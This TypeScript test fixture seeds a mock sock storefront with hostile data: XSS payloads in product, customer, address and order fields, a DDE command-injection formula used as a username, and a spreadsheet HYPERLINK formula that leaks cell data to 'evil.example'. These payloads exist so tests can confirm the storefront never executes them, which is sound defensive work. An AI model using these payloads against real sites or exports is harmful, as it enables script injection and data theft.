import { mockNow } from '../config';
import {
  addAddress,
  addCard,
  addCartItem,
  addSock,
  addressesOf,
  cardsOf,
  cartItems,
  createCustomer,
  findCustomerByUsername,
  insertOrder,
  ordersOf,
} from '../db';
import { orderParties } from '../lib/order-parties';
import { orderTotal } from '../lib/money';
import type { Customer, StoredOrder } from './types';

/**
 * Hostile data: backend strings a storefront must show as text and never run. Every payload that
 * could execute bumps `window.__hostile`, so a browser test proves nothing ran by reading it.
 * Seeded on demand only (`seedHostile()`; standalone server `POST /__mock/seed {"name":"hostile"}`,
 * browser `?mock-seed=hostile`), never part of the normal seed.
 */
const RUN = 'window.__hostile=(window.__hostile||0)+1';

export const HOSTILE = {
  script: `<script>${RUN}</script>`,
  img: `<img src=x onerror="${RUN}">`,
  svg: `<svg onload="${RUN}"></svg>`,
  jsUrl: `javascript:${RUN}`,
  /** A spreadsheet formula (OWASP CSV injection). */
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
  /** A DDE formula with no colon, so it can be a username (Basic auth splits at the colon). */
  dde: "=cmd|'/C calc'!A0",
  /** A status no backend should send, shown as "Status unavailable" and reported raw. */
  status: `<img src=x onerror="${RUN}">SHIPPED`,
} as const;

export const HOSTILE_SOCK = {
  id: '0000beef-7e57-4bad-8bad-000000000001',
  name: `${HOSTILE.img} Socks`,
  description: `${HOSTILE.script} Soft ${HOSTILE.jsUrl}`,
  tag: `${HOSTILE.svg}tag`,
  price: 9.99,
};

export const HOSTILE_SHOPPER = {
  /** The ops view and its CSV show usernames: this one is a formula. */
  username: HOSTILE.dde,
  password: 'password',
  firstName: HOSTILE.script,
  lastName: HOSTILE.img,
  email: `${HOSTILE.formula}@example.com`,
  address: {
    number: HOSTILE.formula,
    street: HOSTILE.img,
    city: HOSTILE.script,
    postcode: '@SUM(1+1)*cmd|',
    country: HOSTILE.jsUrl,
  },
  cardLongNum: '4000056655665556',
} as const;

function shopper(): Customer {
  const existing = findCustomerByUsername(HOSTILE_SHOPPER.username);
  if (existing) return existing;
  const created = createCustomer({
    username: HOSTILE_SHOPPER.username,
    password: HOSTILE_SHOPPER.password,
    email: HOSTILE_SHOPPER.email,
    firstName: HOSTILE_SHOPPER.firstName,
    lastName: HOSTILE_SHOPPER.lastName,
  });
  if (!created) throw new Error('hostile shopper could not be created');
  return created;
}

/**
 * Adds (once) a sock whose name, description, tag and image URL are hostile, a shopper whose
 * username is a spreadsheet formula (password `password`) and whose names, email and address are
 * hostile, with that sock in the cart,
 * one order whose payment failed (for the ops view and its CSV) and one order whose status is
 * hostile text. Returns the ids a test needs.
 */
export function seedHostile(): { failedOrderId: string; oddStatusOrderId: string } {
  addSock({
    id: HOSTILE_SOCK.id,
    name: HOSTILE_SOCK.name,
    description: HOSTILE_SOCK.description,
    imageUrl: [HOSTILE.jsUrl, `/catalogue/images/x.jpg" onerror="${RUN}`],
    price: HOSTILE_SOCK.price,
    count: 5,
    tag: [HOSTILE_SOCK.tag],
  });
  const customer = shopper();
  const address =
    addressesOf(customer.id)[0] ?? addAddress(customer.id, { ...HOSTILE_SHOPPER.address });
  const card =
    cardsOf(customer.id)[0] ??
    addCard(customer.id, { longNum: HOSTILE_SHOPPER.cardLongNum, expires: '12/30', ccv: '123' });
  if (cartItems(customer.id).length === 0) {
    addCartItem(customer.id, HOSTILE_SOCK.id, HOSTILE_SOCK.price);
  }
  const existing = ordersOf(customer.id);
  if (existing.length >= 2 && existing[0] && existing[1]) {
    return { failedOrderId: existing[0].id, oddStatusOrderId: existing[1].id };
  }
  const now = mockNow();
  const items = [{ id: 'hostile-line-1', itemId: HOSTILE_SOCK.id, quantity: 1, unitPrice: 9.99 }];
  const base = (id: string, createdAt: number): StoredOrder => ({
    id,
    ...orderParties(customer, address, card),
    items,
    shipment: { id: `${id}-shipment`, name: customer.id },
    createdAt,
    total: orderTotal(items),
    state: 'PAID',
    paidAt: createdAt,
    shippedAt: null,
    deliveredAt: null,
    failureReason: null,
    legacy: false,
  });
  const failed: StoredOrder = {
    ...base('0000beef00000000000000f1', now - 120_000),
    state: 'PAYMENT_FAILED',
    paidAt: null,
    failureReason: HOSTILE.script,
  };
  const odd: StoredOrder = {
    ...base('0000beef00000000000000f2', now - 60_000),
    rawStatus: HOSTILE.status,
  };
  insertOrder(failed);
  insertOrder(odd);
  return { failedOrderId: failed.id, oddStatusOrderId: odd.id };
}
